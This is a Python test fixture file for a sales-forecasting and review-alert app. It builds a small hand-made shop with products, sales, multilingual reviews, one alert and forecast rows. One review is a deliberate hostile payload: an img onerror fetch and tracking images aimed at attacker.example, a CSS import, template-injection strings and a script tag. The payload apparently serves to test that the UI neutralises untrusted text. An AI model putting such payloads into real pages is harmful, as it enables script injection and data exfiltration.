"""A tiny shop, made by hand, with a review that attacks the page."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd
import pytest

from retrieval import HashingEncoder, build_index, lake_passages
from signals import (
    ACCURACY,
    ALERTS,
    CONTRIBUTIONS,
    DOCUMENTS,
    FORECASTS,
    PRODUCTS,
    RUNS,
    SALES,
    Col,
    Lake,
    LexiconScorer,
    Measure,
    StateDatabase,
    score_documents,
)
from ui.settings import Settings, load_settings

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ATTACKER = "attacker.example"
HOSTILE = (
    f"The strap broke. ![x](http://{ATTACKER}/?d=1) <img src=http://{ATTACKER}/i.png "
    f"onerror=\"fetch('http://{ATTACKER}/x')\"> <style>@import 'http://{ATTACKER}/s.css';</style> "
    "{{value}} ${value} <script>document.title='owned'</script>"
)
RUN = "f00dfacecafe0001"
MADE_ON = pd.Timestamp("2025-12-28")
WEEKS = 8
_AS_OF = MADE_ON.tz_localize("UTC") + pd.Timedelta(days=1)
_KNOWN = pd.Timestamp("2025-12-28", tz="UTC")
_LEVELS = {0.1: 0.8, 0.5: 1.0, 0.9: 1.2}
_PARTS = {
    "baseline": 0.9, "recent sales": 0.06, "calendar": 0.05, "price and promotion": -0.02,
    "sentiment": 0.012, "calibration": -0.004, "agreement of the sums": 0.002,
}  # fmt: skip


@dataclass
class Clock:
    """Seconds since 1970 that pass when a test says so."""

    now: float = 1_800_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def database(tmp_path: Path) -> Iterator[StateDatabase]:
    opened = StateDatabase(f"sqlite:///{tmp_path / 'state.db'}")
    yield opened
    opened.close()


@pytest.fixture
def other_tenant(tmp_path: Path) -> Iterator[StateDatabase]:
    """The database of ``database``, as another tenant has it."""
    opened = StateDatabase(f"sqlite:///{tmp_path / 'state.db'}", "other")
    yield opened
    opened.close()


@dataclass(frozen=True, slots=True)
class Shop:
    """Names of the tiny shop and what it forecasts a week."""

    settings: Settings
    weekly: dict[str, float]
    hostile: str = HOSTILE
    attacker: str = ATTACKER


@pytest.fixture
def empty_home(tmp_path: Path) -> Settings:
    """Settings of a workspace in which nothing was run."""
    return load_settings(tmp_path / "new-shop", scorer="lexicon", encoder="hashing")


@pytest.fixture(scope="session")
def small_shop(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    """A workspace with sales, reviews, one run and one alert, all written by hand."""
    settings = load_settings(
        tmp_path_factory.mktemp("shop") / "corner-shop", scorer="lexicon", encoder="hashing"
    )
    lake = Lake(settings.workspace.lake)
    weekly = {
        "total": 2100.0, "category:Wearables": 1000.0, "category:Kitchen": 1100.0,
        "product:P1": 400.0, "product:P2": 600.0, "product:P3": 1100.0,
    }  # fmt: skip
    with lake.batch() as batch:
        batch.add(PRODUCTS, _products())
        batch.add(SALES, _sales({"P1": 50, "P2": 80, "P3": 150}))
        batch.add(DOCUMENTS, _documents())
        batch.add(ALERTS, _alerts())
        batch.add(FORECASTS, _forecasts(weekly))
        batch.add(CONTRIBUTIONS, _contributions(weekly))
        batch.add(ACCURACY, _accuracy(weekly))
        batch.add(RUNS, _runs())
    scorer = LexiconScorer()
    score_documents(lake, scorer)
    passages = lake_passages(lake, run_id=RUN, as_of=_AS_OF, model_id=scorer.model_id)
    build_index(passages, HashingEncoder(), settings.workspace.index)
    return Shop(settings, weekly)


def _products() -> pd.DataFrame:
    names = ["PulseBand", "灵动手环 <b>Pro</b>", "Café Torrado"]
    return pd.DataFrame(
        {
            Col.PRODUCT_ID: ["P1", "P2", "P3"],
            Col.NAME: names,
            Col.CATEGORY: ["Wearables", "Wearables", "Kitchen"],
            Col.AVAILABLE_AT: pd.Timestamp("1970-01-01", tz="UTC"),
        },
    )


def _sales(daily: dict[str, int]) -> pd.DataFrame:
    days = pd.date_range("2025-01-06", MADE_ON)
    wave = 1 + 0.1 * np.sin(np.arange(len(days)) / 20)
    frames = [
        pd.DataFrame({Col.PRODUCT_ID: name, Col.DAY: days, Col.UNITS: np.round(units * wave)})
        for name, units in daily.items()
    ]
    sales = pd.concat(frames, ignore_index=True)
    return sales.assign(
        **{
            Col.STORE_ID: "web",
            Col.MEASURE: str(Measure.UNITS_SOLD),
            Col.AVAILABLE_AT: sales[Col.DAY].dt.tz_localize("UTC") + pd.Timedelta(days=1),
        },
    )


def _documents() -> pd.DataFrame:
    texts = [
        HOSTILE, "电池用两天就没电了，太失望了。", "Great strap, I love it.", "Café ótimo.",
        "Good coffee.", "Bad coffee, it arrived cold.",
    ]  # fmt: skip
    days = ["12-22", "12-23", "12-24", "12-25", "12-10", "12-16"]
    moments = pd.to_datetime([f"2025-{day}" for day in days], utc=True)
    return pd.DataFrame(
        {
            Col.DOC_ID: [f"d{i}" for i in range(len(texts))],
            Col.KIND: "review",
            Col.PRODUCT_ID: ["P1", "P1", "P1", "P3", "P3", "P3"],
            Col.LANG: ["en", "zh", "en", "pt", "en", "en"],
            Col.TEXT: texts,
            Col.TEXT_HASH: [f"h{i}" for i in range(len(texts))],
            Col.STARS: [1.0, 2.0, 5.0, 5.0, 4.0, 1.0],
            Col.EVENT_TIME: moments,
            Col.AVAILABLE_AT: moments,
        },
    )


def _alerts() -> pd.DataFrame:
    quotes = [
        {"text": HOSTILE, "day": "2025-12-22", "lang": "en", "doc_id": "d0"},
        {
            "text": "电池用两天就没电了，太失望了。",
            "day": "2025-12-23",
            "lang": "zh",
            "doc_id": "d1",
        },
    ]
    alert = {
        Col.ALERT_ID: "a1", Col.KIND: "negative_share", Col.ENTITY: "product:P1",
        Col.NAME: "PulseBand", Col.ASPECT: "battery", Col.WINDOW_END: MADE_ON,
        Col.WINDOW_START: pd.Timestamp("2025-12-22"),
        Col.OBSERVED: 0.46, Col.EXPECTED: 0.17, Col.DOCUMENTS: 83, Col.P_VALUE: 1e-6,
        Col.SEVERITY: 26.0, Col.QUOTES: json.dumps(quotes, ensure_ascii=False),
        Col.STATUS: "open", Col.AVAILABLE_AT: _KNOWN,
    }  # fmt: skip
    return pd.DataFrame([alert])


def _weeks() -> list[tuple[int, pd.Timestamp]]:
    first = MADE_ON + pd.Timedelta(days=1)
    return [(step + 1, first + pd.Timedelta(weeks=step)) for step in range(WEEKS)]


def _forecasts(weekly: dict[str, float]) -> pd.DataFrame:
    rows = [
        (RUN, name, MADE_ON, day, step, level, units * width, "lightgbm 0.7 + autoets 0.3")
        for name, units in weekly.items()
        for step, day in _weeks()
        for level, width in _LEVELS.items()
    ]
    return pd.DataFrame(rows, columns=FORECASTS.schema.names)


def _contributions(weekly: dict[str, float]) -> pd.DataFrame:
    rows = [
        (RUN, name, day, step, level, part, units * width * share)
        for name, units in weekly.items()
        for step, day in _weeks()
        for level, width in _LEVELS.items()
        for part, share in _PARTS.items()
    ]
    return pd.DataFrame(rows, columns=CONTRIBUTIONS.schema.names)


def _accuracy(weekly: dict[str, float]) -> pd.DataFrame:
    rows = [
        (RUN, name, "blend", "reconciled", 0, metric, value)
        for name in [*weekly, "all"]
        for metric, value in {"wape": 0.113, "coverage_80": 0.79}.items()
    ]
    return pd.DataFrame(rows, columns=ACCURACY.schema.names)


def _runs() -> pd.DataFrame:
    verdict = {"with_text": 0.12, "without_text": 0.11, "low": 0.0, "high": 0.02, "helped": False}
    text = dict.fromkeys(("product", "category", "total"), verdict)
    run = {
        Col.RUN_ID: RUN, Col.MADE_ON: MADE_ON, Col.MEASURE: str(Measure.UNITS_SOLD),
        Col.MODEL: "by hand", Col.CONFIG: json.dumps({"text": text, "text_helped": False}),
        Col.RECORDED_AT: _KNOWN + pd.Timedelta(days=1),
    }  # fmt: skip
    return pd.DataFrame([run])
